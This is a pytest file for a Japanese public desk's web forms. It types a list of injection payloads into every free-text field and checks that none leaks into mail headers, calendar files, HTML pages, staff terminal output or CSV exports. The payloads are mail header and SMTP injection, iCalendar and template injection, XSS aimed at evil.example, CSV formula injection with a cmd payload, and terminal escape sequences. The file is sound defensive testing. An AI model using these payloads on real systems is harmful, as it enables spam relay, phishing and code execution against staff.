"""The attack list: how a form could be misused against others, one row each, through the real handlers.

The typed text goes into every field that accepts it. The submission then goes through its whole life, and
other programs read all that leaves the desk: the mails on the wire, the calendar files, the pages, the
staff's terminal and their spreadsheets.

The rest of the list: test_attack_addresses.py (whose address), test_caps.py (how many mails), test_loops.py
(mail loops), test_manage_abuse.py (other people's bookings), test_hostile.py (hostile requests).
"""

import csv
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from email import message_from_bytes, policy
from email.message import EmailMessage
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from icalendar import Calendar

import submit
from desk.counter.printable import _STEERING
from tests import actions
from tests.functions.bookings import OTHER_SLOT, SID, URL, do
from tests.functions.conftest import BOOKING, CONSULTATION, RIGHT, Desk, Staff
from tests.functions.events import Context, post
from tests.functions.page_parts import main_of

CANARY = "kanariya"
"""A word of each typed text, which must be in no mail, header, calendar, list or log."""

FULL: Mapping[str, Mapping[str, Any]] = {
    "booking": {
        **BOOKING,
        "eligibility": "worker",
        "workplace": "例商店",
        "relationship": "carer",
        "contractor_name": "例 花子",
        "support_needs": "ゆっくり話してください。",
    },
    "consultation": {
        **CONSULTATION,
        "organisation": "例商店",
        "industry": "小売",
        "employees": 12,
        "name": "例 花子",
        "convenient_hours": "火曜日の午後",
        "discreet": True,
    },
    **{name: answers for name, answers in RIGHT.items() if name not in ("booking", "consultation")},
}
"""Answers to every question that takes a text, and the right ones of every other form."""

MAILS = {"booking": 5, "consultation": 3, "seminar": 1}
"""How many mails a life sends; another form's auto-reply and notice are 2."""

Marks = tuple[str, list[tuple[str, list[str]]]]

FREE = {"person-name", "line", "text", "jp-address", "kana"}
"""The formats whose text is stored as typed, or nearly."""


@dataclass(frozen=True, kw_only=True)
class Row:
    """One attack: the typed text. `refused` if only multi-line fields accept it, or none."""

    name: str
    typed: str
    never: tuple[str, ...] = field(default=(CANARY,))


ROWS = (
    Row(name="a link", typed=f"https://evil.example/{CANARY}", never=(CANARY, "evil.example")),
    Row(name="a link without its scheme", typed=f"www.evil.example/{CANARY}", never=(CANARY, "evil.example")),
    Row(
        name="a link in Markdown",
        typed=f"[受付番号]({CANARY}://evil.example)",
        never=(CANARY, "evil.example"),
    ),
    Row(name="an advertisement", typed=f"未納料金があります。{CANARY} 今すぐ 00-0000-0000 へ"),
    Row(name="a header after a line break", typed=f"例\r\nBcc: {CANARY}@evil.example\r\n\r\n本文"),
    Row(name="a header after a bare line feed", typed=f"例\nSubject: {CANARY}"),
    Row(name="a header after a bare return", typed=f"例\rBcc: {CANARY}@evil.example"),
    Row(name="a header after a line separator", typed=f"例\u2028Bcc: {CANARY}@evil.example"),
    Row(name="a header after a next line", typed=f"例\x85Bcc: {CANARY}@evil.example"),
    Row(name="an encoded word", typed=f"=?utf-8?q?{CANARY}=0D=0ABcc:_x=40evil.example?="),
    Row(name="an encoded word in base64", typed="=?utf-8?b?a2FuYXJpeWE=?=", never=("a2FuYXJpeWE", CANARY)),
    Row(name="a boundary of MIME", typed=f"--==\r\nContent-Type: text/html\r\n\r\n<b>{CANARY}</b>"),
    Row(name="the end of SMTP's data", typed=f"例\r\n.\r\nMAIL FROM:<{CANARY}@evil.example>"),
    Row(name="a calendar's lines", typed=f"END:VEVENT\r\nBEGIN:VEVENT\r\nDTSTART:20261125T000000Z {CANARY}"),
    Row(name="a calendar's guest", typed=f"ATTENDEE;CN={CANARY}:mailto:x@evil.example"),
    Row(name="a calendar's escape", typed=f"例\\nDESCRIPTION:{CANARY}\\, \\; "),
    Row(name="a placeholder", typed=f"{{{{ manage_code }}}}{{{{ desks.consumer-center.phone }}}} {CANARY}"),
    Row(name="a template's code", typed=f"{{% for x in () %}}{{{{ 7*7 }}}}${{7*7}} %s %(receipt)s {CANARY}"),
    Row(name="a script", typed=f"<script>alert('{CANARY}')</script>"),
    Row(name="a script in an attribute", typed=f"\"'><img src=x onerror=alert('{CANARY}')>"),
    Row(
        name="a style and a frame",
        typed=f"</textarea><iframe src=//evil.example/{CANARY}></iframe><style>*{{}}",
    ),
    Row(name="a formula", typed=f'=HYPERLINK("https://evil.example/?{CANARY}","x")'),
    Row(name="a formula after a blank", typed=f"\u3000@SUM(1+1)*cmd|'/C {CANARY}'!A0"),
    Row(name="a formula in full width", typed=f"＝1＋1 {CANARY}"),
    Row(name="a formula of a return", typed=f"\t+1+1 {CANARY}\r\n=1+1"),
    Row(name="an escape sequence", typed=f"\x1b[2J\x1b]0;{CANARY}\x07"),
    Row(name="an eight-bit escape sequence", typed=f"\x9b2J{CANARY}"),
    Row(name="a turned direction", typed=f"\u202e{CANARY}\u2066exe.txt"),
    Row(name="lines that look like the staff's", typed=f"例\n■ 今できること\n  confirm  {CANARY}"),
)


@pytest.mark.parametrize("form", sorted(FULL))
@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.name)
def test_typed_text_reaches_no_mail_and_stays_text_elsewhere(
    desk: Desk, staff: Staff, row: Row, form: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    answers = typed_into(desk, form, row.typed)
    receipt = taken(desk, form, answers)
    desk.sweep()
    for action in life(form):
        do(action)
        desk.sweep()
    assert len(desk.cloud.mailbox.mails) == MAILS.get(form, 2)
    for mail in desk.cloud.mailbox.mails:
        is_clean(mail.raw, row.never)
        assert mail.recipients in ((FULL[form]["email"],), (desk_of(desk, form),))
    is_text_on_every_page(desk, form, answers)
    is_text_on_the_terminal(staff, receipt, row.typed)
    is_text_in_a_spreadsheet(staff, tmp_path)
    assert CANARY not in caplog.text


def typed_into(desk: Desk, form: str, text: str) -> dict[str, Any]:
    """Right answers with `text` in every field that accepts it; a refusal names the field, not the text."""
    rules = desk.bundle["forms"][form]["schema"]["properties"]
    fields = [name for name in FULL[form] if rules[name].get("format") in FREE]
    typed = {name: f"1番地 {text}" if rules[name]["format"] == "jp-address" else text for name in fields}
    status, body = desk.send(form, {**FULL[form], **typed}, sid=SID)
    if status == 201:
        return {**FULL[form], **typed}
    assert status == 422
    assert CANARY not in str(body)
    refused = {error["field"] for error in body["errors"]}
    assert refused <= set(fields)
    # A multi-line field accepts all but control characters of terminals.
    assert "message" not in refused or set("\x07\t\x1b\x85\x9b") & set(text)
    assert desk.rows("submission") == desk.mails() == []
    return {**FULL[form], **{name: typed[name] for name in fields if name not in refused}}


def taken(desk: Desk, form: str, answers: Mapping[str, Any]) -> str:
    status, body = desk.send(form, answers, sid=SID)
    assert status in (200, 201), body
    return str(body["receipt"])


def life(form: str) -> tuple[Any, ...]:
    if form == "booking":
        return (actions.confirm(url=URL), actions.move(slot=OTHER_SLOT), actions.cancel())
    return (actions.answer(text="例の回答です。"),) if form == "consultation" else ()


def desk_of(desk: Desk, form: str) -> str:
    words = desk.bundle["forms"][form]["words"]
    return str(desk.bundle["desks"][words["desk"]]["mail"]["desk"]["address"])


HEADERS = {
    "subject", "from", "to", "date", "auto-submitted", "reply-to", "x-auto-response-suppress", "mime-version",
    "content-type", "content-transfer-encoding", "message-id",
}  # fmt: skip


def is_clean(raw: bytes, never: tuple[str, ...]) -> None:
    """Checks that nothing typed is in a mail, neither on the wire nor as another program decodes it."""
    message = message_from_bytes(raw, policy=policy.default)
    assert isinstance(message, EmailMessage)
    assert not message.defects
    assert {name.lower() for name in message} <= HEADERS
    assert len(message.keys()) == len(set(map(str.lower, message.keys())))
    assert len(message["To"].addresses) == 1
    read = [raw.decode("ascii"), *map(str, message.values())]
    for part in message.walk():
        read += [str(value) for value in part.values()]
        if part.is_multipart():
            continue
        payload = part.get_payload(decode=True)
        assert isinstance(payload, bytes)
        read.append(payload.decode())
        if part.get_content_type() == "text/calendar":
            read += list(calendar_words(payload))
        else:
            assert part.get_content_type() == "text/plain"
    for text in read:
        for word in never:
            assert word not in text


def calendar_words(payload: bytes) -> Iterator[str]:
    calendar = Calendar.from_ical(payload)
    (event,) = calendar.walk("VEVENT")
    assert not event.errors
    assert len(event.get("ATTENDEE", "").split(":")) <= 2
    yield calendar.to_ical().decode()


def is_text_on_every_page(desk: Desk, form: str, answers: Mapping[str, Any]) -> None:
    """Checks that typed text makes no markup on the check page, nor on the page with errors."""
    for wrong in ({}, {"email": "x"}):
        assert markup(page(form, {**answers, **wrong}, "check")) == plain_markup(form, **wrong)


@cache
def plain_markup(form: str, **wrong: str) -> Marks:
    """What right answers make, with these in their place: the same for every attack."""
    return markup(page(form, {**FULL[form], **wrong}, "check"))


def page(form: str, answers: Mapping[str, Any], step: str) -> str:
    pairs = [("_step", step), *pairs_of(answers)]
    sent = {"content-type": "application/x-www-form-urlencoded", "accept": "text/html"}
    event = post(form, urlencode(pairs), headers=sent, encoded=True)
    answer = submit.handler(event, Context())
    assert answer["headers"]["content-type"].startswith("text/html")
    return str(answer["body"])


def pairs_of(answers: Mapping[str, Any]) -> Iterator[tuple[str, str]]:
    for name, value in answers.items():
        for one in value if isinstance(value, list) else [value]:
            if name == "slot":
                yield "slot.day", one[:10]
                yield "slot.time", one[11:]
            else:
                yield name, "true" if one is True else str(one)


class Markup(HTMLParser):
    """Each element but line breaks, with its attributes' names: typed text changes none of them."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, list[str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag != "br":
            self.elements.append((tag, sorted(name for name, _ in attrs)))


def markup(html: str) -> Marks:
    """What is around the main part, as it is, and the main part's elements."""
    main = main_of(html)
    parser = Markup()
    parser.feed(main)
    parser.close()
    return html.replace(main, ""), parser.elements


def is_text_on_the_terminal(staff: Staff, receipt: str, typed: str) -> None:
    said = staff("show", receipt)
    assert said.status == 0
    assert not _STEERING.search(said.out)
    heads = re.findall(r"^■ (.+)$", said.out, re.M)
    assert len(heads) == len(set(heads))
    for command in ("list", "health"):
        out = staff(command).out
        assert CANARY not in out
        assert typed not in out


def is_text_in_a_spreadsheet(staff: Staff, folder: Path) -> None:
    span = ("--from", "2026-11-01", "--to", "2026-11-30")
    assert staff("export", "--full", *span, "--reason", "例の調査", "--out", str(folder / "out")).status == 0
    for file in (folder / "out").glob("*.csv"):
        for cells in csv.reader(file.read_text("utf-8-sig").splitlines(keepends=True)):
            for cell in cells:
                assert not re.match(r"[\s\u3000]*[=+\-@＝＋－＠\t\r]", cell), cell
    assert CANARY not in staff("export", "--deidentified", *span).out
